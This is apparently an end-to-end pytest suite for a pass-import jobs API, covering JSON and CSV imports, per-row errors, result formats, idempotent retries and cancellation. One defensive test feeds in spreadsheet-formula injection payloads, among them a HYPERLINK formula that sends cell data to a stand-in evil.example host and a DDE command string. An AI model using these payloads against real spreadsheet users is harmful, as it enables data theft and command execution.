"""Issue 12, acceptance 2: import jobs through the whole stack. An import of 2,000 JSON rows and
one of 500 CSV rows with metadata columns succeed; the results list every row in order, each
pass with a download URL whose .pkpass verifies with openssl, bad rows with their row numbers;
a bad header, an unknown, archived or other account's template fail the request before any job
exists; GET /v1/jobs filters and pages; cancel stops taking work, and what is done stays done.
"""

import asyncio
import csv
import io
import json
import socket
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import pytest
from pymongo import MongoClient
from pymongo.synchronous.database import Database

from services.api.idempotency import Scope, _record_id, fingerprint
from services.api.job_uploads import job_id_for
from shared.ids import new_id
from shared.messages import AddImportRows, ImportChunk, ImportRow
from shared.nats import create_broker, request_command
from tests.support.api import (
    TEMPLATE_BODY,
    all_passes,
    assert_error,
    create_template,
    list_page,
    ok,
    post_retrying,
    walk,
)
from tests.support.pkpass_check import verified_pass_json
from tests.support.polling import poll
from tests.support.stack import Stack

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
FINISHED = {"succeeded", "failed", "canceled"}
JOB_KEYS = {
    "id",
    "object",
    "type",
    "status",
    "template_id",
    "total",
    "processed",
    "succeeded",
    "failed",
    "errors",
    "created_at",
    "started_at",
    "finished_at",
}


def _finished(client: httpx2.Client, job_id: str, timeout: float = 90.0) -> dict[str, Any]:
    return poll(
        lambda: ok(client.get(f"/v1/jobs/{job_id}")),
        lambda job: job["status"] in FINISHED,
        timeout,
        message=f"job {job_id} to finish",
        interval=0.2,
    )


def _ndjson(client: httpx2.Client, job_id: str) -> list[dict[str, Any]]:
    response = client.get(f"/v1/jobs/{job_id}/results")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in response.text.splitlines()]


def _row(number: int) -> dict[str, Any]:
    return {
        "holder_name": f"Guest {number}",
        "holder_email": f"guest{number}@example.com",
        "field_values": {"seat": f"R{number // 30}-{number % 30}"},
        "metadata": {"order": number},
    }


def test_a_json_import_of_2000_rows_reports_every_pass_and_its_bad_rows(
    stack: Stack, tmp_path: Path
) -> None:
    account = stack.new_account()
    rows = [_row(number) for number in range(1, 2001)]
    rows[4] = {**rows[4], "holder_email": "not an address"}  # row 5: refused by the api
    rows[9] = {**rows[9], "field_values": {"nope": "x"}}  # row 10: not a field of the template
    rows[1999] = {**rows[1999], "metadata": {"expiration_date": "soon"}}  # row 2000: the issuer's
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        created = client.post(
            "/v1/jobs", json={"type": "import_passes", "template_id": template["id"], "rows": rows}
        )
        job = ok(created, 202)
        assert set(job) == JOB_KEYS
        assert (job["object"], job["type"], job["template_id"], job["total"]) == (
            "job",
            "import_passes",
            template["id"],
            2000,
        )
        assert job["status"] in {"queued", "running", "succeeded"}

        done = _finished(client, job["id"])
        assert (done["status"], done["processed"], done["succeeded"], done["failed"]) == (
            "succeeded",
            2000,
            1997,
            3,
        )
        assert done["started_at"]
        assert done["finished_at"]
        errors = {entry["row"]: entry["error"] for entry in done["errors"]}
        assert (errors[5]["param"], errors[10]["param"], errors[2000]["param"]) == (
            "holder_email",
            "field_values.nope",
            "metadata.expiration_date",
        )
        assert all(set(error) == {"type", "code", "message", "param"} for error in errors.values())

        results = _ndjson(client, job["id"])
        assert [line["row"] for line in results] == list(range(1, 2001))
        failed = {line["row"]: line for line in results if "error" in line}
        assert sorted(failed) == [5, 10, 2000]
        assert {line["status"] for line in failed.values()} == {400}
        made = [line for line in results if "error" not in line]
        passes = {p["id"]: p for p in all_passes(client)}
        assert {line["pass_id"] for line in made} == set(passes)
        for line in made[:: len(made) // 4]:
            stored = passes[line["pass_id"]]
            assert (line["url"], line["download_url"]) == (stored["url"], stored["download_url"])
            assert stored["holder_name"] == f"Guest {line['row']}"
            assert stored["metadata"] == {"order": line["row"]}
            download = client.get(line["download_url"])
            assert download.status_code == 200
            pass_json = verified_pass_json(
                download.content, stack.signing_dir / "root-ca.pem", tmp_path / line["pass_id"]
            )
            assert pass_json["serialNumber"] == stored["serial_number"]
        # One created event per pass (the same as single creates: webhooks' pass.issued).
        events = poll(
            lambda: walk(client, "/v1/events", 200),
            lambda found: len(found) >= len(made),
            timeout=60,
            message="the created events",
        )
        assert sorted(e["pass_id"] for e in events if e["type"] == "created") == sorted(passes)


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def test_a_csv_import_with_metadata_columns_and_csv_results(stack: Stack) -> None:
    account = stack.new_account()
    header = ["holder_name", "holder_email", "seat", "gate", "metadata.order", "metadata.tier"]
    records = [
        [f"Fan {n}", f"fan{n}@example.com", f"A{n}", "", str(n), "vip" if n % 2 else ""]
        for n in range(1, 501)
    ]
    records[99] = ["Fan 100", "fan100@example.com", "A100"]  # too few cells
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        created = client.post(
            "/v1/jobs/import_passes",
            params={"template_id": template["id"]},
            content=_csv([header, *records]),
            headers={"Content-Type": "text/csv"},
        )
        job = ok(created, 202)
        assert job["total"] == 500
        done = _finished(client, job["id"])
        assert (done["status"], done["succeeded"], done["failed"]) == ("succeeded", 499, 1)
        assert [(e["row"], e["error"]["code"]) for e in done["errors"]] == [
            (100, "csv_row_invalid")
        ]

        response = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
        assert response.headers["content-type"].startswith("text/csv")
        lines = list(csv.DictReader(io.StringIO(response.text)))
        assert [int(line["row"]) for line in lines] == list(range(1, 501))
        assert lines[99]["status"] == "400"
        assert lines[99]["error_code"] == "csv_row_invalid"
        first = lines[0]
        assert first["status"] == "201"
        assert first["download_url"].endswith("/pass.pkpass")
        one = ok(client.get(f"/v1/passes/{first['pass_id']}"))
        assert (one["holder_email"], one["field_values"], one["metadata"]) == (
            "fan1@example.com",
            {"seat": "A1"},  # an empty cell is no value: the gate stays unset
            {"order": "1", "tier": "vip"},
        )
        second = ok(client.get(f"/v1/passes/{lines[1]['pass_id']}"))
        assert second["metadata"] == {"order": "2"}
        assert client.get(first["download_url"]).status_code == 200


def test_results_answer_the_type_the_accept_header_prefers(stack: Stack) -> None:
    """A row the issuer's checks refuse (a date without its time zone) fails with its number
    (tests/e2e/test_passes_batch.py shows it takes no unit); the results come as CSV or NDJSON
    by the Accept header's q-values."""
    account = stack.new_account()
    rows = [{"metadata": {"expiration_date": "2031-12-31"}}, {"holder_name": "Ann"}]
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        body = {"type": "import_passes", "template_id": template["id"], "rows": rows}
        job = ok(client.post("/v1/jobs", json=body), 202)
        done = _finished(client, job["id"])
        assert (done["succeeded"], done["failed"]) == (1, 1)
        [error] = done["errors"]
        assert (error["row"], error["error"]["param"]) == (1, "metadata.expiration_date")
        results = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
        assert results.headers["content-type"].startswith("text/csv")
        # q-values decide: NDJSON is preferred here, and CSV refused outright there.
        for accept in ("text/csv;q=0.5, application/x-ndjson", "text/csv;q=0, */*"):
            ndjson = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": accept})
            assert ndjson.headers["content-type"].startswith("application/x-ndjson"), accept


def test_a_results_cell_a_spreadsheet_would_run_is_quoted_as_text(stack: Stack) -> None:
    account = stack.new_account()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Fix")'
    # A formula after a lone CR inside a cell: quoted, so no reader starts a row there.
    hidden = "x\r=cmd|' /C calc'!A0"
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        rows = [{formula: "x"}, {hidden: "x"}]
        body = {"type": "import_passes", "template_id": template["id"], "rows": rows}
        job = ok(client.post("/v1/jobs", json=body), 202)
        _finished(client, job["id"])
        results = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
    assert results.text.endswith("\r\n")  # RFC 4180
    first, second = list(csv.DictReader(io.StringIO(results.text, newline="")))
    assert first["error_param"] == "'" + formula
    assert second["error_param"] == hidden


def test_bad_imports_are_refused_before_any_job_exists(stack: Stack) -> None:
    account, other = stack.new_account(), stack.new_account()
    with (
        stack.client(headers=account.headers()) as client,
        stack.client(headers=other.headers()) as stranger,
    ):
        template = create_template(client, TEMPLATE_BODY)
        archived = create_template(client, TEMPLATE_BODY)
        ok(client.delete(f"/v1/templates/{archived['id']}"))
        foreign = create_template(stranger, TEMPLATE_BODY)

        def json_import(template_id: str, rows: Any = None) -> httpx2.Response:
            rows = [{}] if rows is None else rows
            body = {"type": "import_passes", "template_id": template_id, "rows": rows}
            return client.post("/v1/jobs", json=body)

        def csv_import(template_id: str, data: bytes, **headers: str) -> httpx2.Response:
            return client.post(
                "/v1/jobs/import_passes",
                params={"template_id": template_id},
                content=data,
                headers={"Content-Type": "text/csv", **headers},
            )

        for refused in (json_import(foreign["id"]), csv_import(foreign["id"], b"seat\nA1\n")):
            assert_error(refused, 404, "not_found_error", "template_id", "resource_missing")
        assert_error(json_import("tmpl_nope"), 404, "not_found_error", "template_id")
        assert_error(
            json_import(archived["id"]),
            400,
            "invalid_request_error",
            "template_id",
            "template_archived",
        )
        assert_error(json_import(template["id"], []), 400, "invalid_request_error", "rows")
        assert_error(
            client.post(
                "/v1/jobs", json={"type": "nonsense", "template_id": template["id"], "rows": [{}]}
            ),
            400,
            "invalid_request_error",
            "type",
        )
        header = csv_import(template["id"], b"holder_name,shoe_size\nAda,9\n")
        error = assert_error(header, 400, "invalid_request_error", "header", "csv_header_invalid")
        assert "shoe_size" in error["message"]
        twice = csv_import(template["id"], b"seat,seat\nA1,A2\n")
        assert_error(twice, 400, "invalid_request_error", "header", "csv_header_invalid")
        assert_error(csv_import(template["id"], b""), 400, "invalid_request_error", "header")
        assert_error(csv_import(template["id"], b"seat\n"), 400, "invalid_request_error", "rows")
        # A quote left open would swallow the rest of the file into one cell.
        open_quote = csv_import(template["id"], b'seat,gate\n"A1,B\nA2,C\nA3,D\n')
        assert_error(open_quote, 400, "invalid_request_error", None, "csv_invalid")
        for column in (b"metadata.a.b", b"metadata.$x", b"metadata." + b"k" * 41):
            bad_key = csv_import(template["id"], b"seat," + column + b"\nA1,x\n")
            assert_error(bad_key, 400, "invalid_request_error", "header", "csv_header_invalid")
        assert_error(
            csv_import(template["id"], b"\xff\xfe"),
            400,
            "invalid_request_error",
            None,
            "csv_invalid",
        )
        wrong_type = client.post(
            "/v1/jobs/import_passes",
            params={"template_id": template["id"]},
            content=b"seat\nA1\n",
            headers={"Content-Type": "text/plain"},
        )
        assert_error(wrong_type, 415, "invalid_request_error", None, "unsupported_media_type")
        assert list_page(client, "/v1/jobs")["data"] == []
        assert_error(
            client.get("/v1/jobs/job_nope"), 404, "not_found_error", None, "resource_missing"
        )


@pytest.mark.parametrize("path", ["/v1/jobs", "/v1/jobs/import_passes?template_id=tmpl_x"])
def test_a_stranger_is_refused_before_an_import_body_is_read(stack: Stack, path: str) -> None:
    """The import routes take 64 MiB; FastAPI parses a whole body before the route's key check,
    so a stranger could have 64 MiB of JSON parsed (gigabytes of objects) just to hear 401.
    The key is checked first: the answer comes while the announced body has not been sent."""
    content_type = "application/json" if path == "/v1/jobs" else "text/csv"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {stack.host}\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {40 * 1024 * 1024}\r\nAuthorization: Bearer sk_test_nope\r\n\r\n"
    )
    with socket.create_connection((stack.host, stack.api_port), timeout=30) as conn:
        conn.sendall(head.encode() + b"[")
        answer = b""
        while b"\r\n\r\n" not in answer:
            received = conn.recv(65536)  # the 30 s timeout: an answer waiting for the body
            assert received, answer
            answer += received
    assert answer.startswith(b"HTTP/1.1 401"), answer


def test_the_import_routes_keep_the_documented_order_of_checks(stack: Stack) -> None:
    """405 and 415 (and 413 from Content-Length, the same check as 415) come before the key
    check, as on every route (docs/api-decisions.md, the order of the checks); the early key
    check of the import routes answered 401 to them."""
    with stack.client(headers={"Authorization": "Bearer sk_test_nope"}) as stranger:
        assert stranger.patch("/v1/jobs", json={}).status_code == 405
        wrong_type = stranger.post(
            "/v1/jobs/import_passes",
            params={"template_id": "tmpl_x"},
            content=b"seat\nA1\n",
            headers={"Content-Type": "text/plain"},
        )
        assert_error(wrong_type, 415, "invalid_request_error", None, "unsupported_media_type")


def test_jobs_are_listed_with_filters_and_cursors_and_scoped_to_the_account(stack: Stack) -> None:
    account, other = stack.new_account(), stack.new_account()
    with stack.client(headers=account.headers()) as client:
        first, second = (
            create_template(client, TEMPLATE_BODY),
            create_template(client, TEMPLATE_BODY),
        )
        made = []
        for template in (first, second, second):
            body = {"type": "import_passes", "template_id": template["id"], "rows": [{}, {}]}
            made.append(ok(client.post("/v1/jobs", json=body), 202)["id"])
        for job_id in made:
            _finished(client, job_id)
        newest_first = list(reversed(made))
        assert [job["id"] for job in walk(client, "/v1/jobs", 1)] == newest_first
        by_template = list_page(client, "/v1/jobs", template_id=second["id"])["data"]
        assert [job["id"] for job in by_template] == newest_first[:2]
        assert (
            len(list_page(client, "/v1/jobs", type="import_passes", status="succeeded")["data"])
            == 3
        )
        assert list_page(client, "/v1/jobs", status="running")["data"] == []
        page = list_page(client, "/v1/jobs", limit=1, ending_before=made[0])
        assert [job["id"] for job in page["data"]] == [made[1]]
        assert page["has_more"]
        assert_error(
            client.get("/v1/jobs", params={"status": "done"}),
            400,
            "invalid_request_error",
            "status",
        )
        assert_error(
            client.get("/v1/jobs", params={"starting_after": first["id"]}),
            400,
            "invalid_request_error",
            "starting_after",
        )
    with stack.client(headers=other.headers()) as stranger:
        assert list_page(stranger, "/v1/jobs")["data"] == []
        assert_error(stranger.get(f"/v1/jobs/{made[0]}"), 404, "not_found_error")
        assert_error(stranger.get(f"/v1/jobs/{made[0]}/results"), 404, "not_found_error")
        assert_error(stranger.post(f"/v1/jobs/{made[0]}/cancel"), 404, "not_found_error")


def test_a_retried_import_makes_one_job(stack: Stack) -> None:
    account = stack.new_account()
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        body = {"type": "import_passes", "template_id": template["id"], "rows": [_row(1), _row(2)]}
        key = {"Idempotency-Key": "import-once"}
        first = ok(client.post("/v1/jobs", json=body, headers=key), 202)
        again = client.post("/v1/jobs", json=body, headers=key)
        assert ok(again, 202)["id"] == first["id"]
        assert again.headers["Idempotent-Replayed"] == "true"
        _finished(client, first["id"])
        assert len(list_page(client, "/v1/jobs")["data"]) == 1
        assert len(all_passes(client)) == 2


@pytest.mark.parametrize("upload", ["json", "csv"])
def test_a_replayed_import_answers_its_job_after_the_template_is_archived(
    stack: Stack, upload: str
) -> None:
    """A replay answers what the first request answered (spec 8). The template was checked
    before the key was looked up, so a replay after the template's archiving answered 400
    `template_archived` (and `tessera import`, rerun, failed) instead of the job."""
    account = stack.new_account()
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        key = {"Idempotency-Key": f"import-then-archive-{upload}"}

        def send() -> httpx2.Response:
            if upload == "json":
                body = {"type": "import_passes", "template_id": template["id"], "rows": [_row(1)]}
                return client.post("/v1/jobs", json=body, headers=key)
            return client.post(
                "/v1/jobs/import_passes",
                params={"template_id": template["id"]},
                content=_csv([["holder_name", "seat"], ["Fan 1", "A1"]]),
                headers={"Content-Type": "text/csv", **key},
            )

        first = ok(send(), 202)
        _finished(client, first["id"])
        ok(client.delete(f"/v1/templates/{template['id']}"))

        replayed = send()

        assert ok(replayed, 202)["id"] == first["id"]
        assert replayed.headers["Idempotent-Replayed"] == "true"


async def _first_commands_of_an_import(
    nats_url: str, account_id: str, command_id: str, template_id: str
) -> None:
    """What a first request's upload sent before it stopped: the first of its commands."""
    broker = create_broker(nats_url)
    await broker.connect()
    try:
        base = {"account_id": account_id, "mode": "test", "request_id": None}
        rows = [ImportRow(row=1, **_row(1))]
        command = AddImportRows(
            **base,
            command_id=f"{command_id}.rows.0",
            job_id=job_id_for(command_id),
            template_id=template_id,
            reserved=1,
            chunks=[ImportChunk(seq=0, rows=rows)],
        )
        await request_command(broker, command, 30)
    finally:
        await broker.stop()


def test_a_retry_of_an_upload_cut_short_finishes_it_after_the_template_is_archived(
    stack: Stack,
) -> None:
    """A first request's upload stopped after its first command (a 5xx, a timeout), and the
    template was archived before the retry took the key over: the retry answered 400
    `template_archived` while the job it began stayed uploading for an hour, then failed as
    incomplete. The retry finishes the upload; the row fails in the job, as in a started job."""
    account = stack.new_account()
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        body = {"type": "import_passes", "template_id": template["id"], "rows": [_row(1)]}
        key = "import-cut-short"
        command_id = new_id("command")
        now = datetime.now(UTC)
        mongo: MongoClient[dict[str, Any]]
        with MongoClient(stack.mongo_url) as mongo:
            db: Database[dict[str, Any]] = mongo[stack.database]
            db["idempotency_keys"].insert_one(
                {
                    "_id": _record_id(Scope(account.id, "test"), key),
                    "account_id": account.id,
                    "mode": "test",
                    "fingerprint": fingerprint("POST", "/v1/jobs", body),
                    "command_id": command_id,
                    "state": "processing",
                    "locked_until": now - timedelta(seconds=1),  # its request is gone
                    "admitted": 1,
                    "created_at": now,
                    "expires_at": now + timedelta(hours=1),
                }
            )
        asyncio.run(
            _first_commands_of_an_import(stack.nats_url, account.id, command_id, template["id"])
        )
        ok(client.delete(f"/v1/templates/{template['id']}"))

        retried = ok(client.post("/v1/jobs", json=body, headers={"Idempotency-Key": key}), 202)

        assert retried["id"] == job_id_for(command_id)
        job = _finished(client, retried["id"])
        assert (job["status"], job["failed"]) == ("failed", 1)
        assert [e["error"]["code"] for e in job["errors"]] == ["template_archived"]


def test_cancel_stops_taking_work_and_what_is_done_stays_done(stack: Stack) -> None:
    account = stack.new_account()
    with stack.client(headers=account.headers()) as client:
        template = create_template(client, TEMPLATE_BODY)
        rows = [_row(number) for number in range(1, 3001)]
        job = ok(
            client.post(
                "/v1/jobs",
                json={"type": "import_passes", "template_id": template["id"], "rows": rows},
            ),
            202,
        )
        poll(
            lambda: ok(client.get(f"/v1/jobs/{job['id']}")),
            lambda found: found["processed"] > 0,
            timeout=60,
            message="the first chunk",
            interval=0.1,
        )
        # A loaded machine may time the cancel out while chunks commit: retried as a careful
        # client does (canceling twice answers the same job).
        cancel = f"/v1/jobs/{job['id']}/cancel"
        canceled = ok(post_retrying(client, cancel, None, f"cancel-{job['id']}"))
        assert canceled["status"] == "canceled"
        assert canceled["finished_at"]
        mongo: MongoClient[dict[str, Any]]
        with MongoClient(stack.mongo_url) as mongo:
            db: Database[dict[str, Any]] = mongo[stack.database]
            chunks = {"job_id": job["id"]}
            left = {**chunks, "state": {"$in": ["waiting", "pending"]}}
            assert db.job_chunks.count_documents(left) == 0  # none will be taken
            # Chunks committed just before the cancel are counted in a moment.
            counting = {**chunks, "state": "counting"}
            poll(lambda: db.job_chunks.count_documents(counting) == 0, message="the count")
            after = ok(client.get(f"/v1/jobs/{job['id']}"))
            assert after["status"] == "canceled"
            assert 0 < after["processed"] < 3000
            assert db.passes.count_documents({"account_id": account.id}) == after["succeeded"]
        results = _ndjson(client, job["id"])
        assert [line["row"] for line in results] == list(range(1, 3001))
        skipped = [line for line in results if line.get("error", {}).get("code") == "job_canceled"]
        assert len(skipped) == 3000 - after["processed"]
        # Canceling again answers the same job; what is done stays done.
        again = ok(client.post(cancel))
        assert (again["status"], again["processed"]) == ("canceled", after["processed"])
        assert len(all_passes(client)) == after["succeeded"]
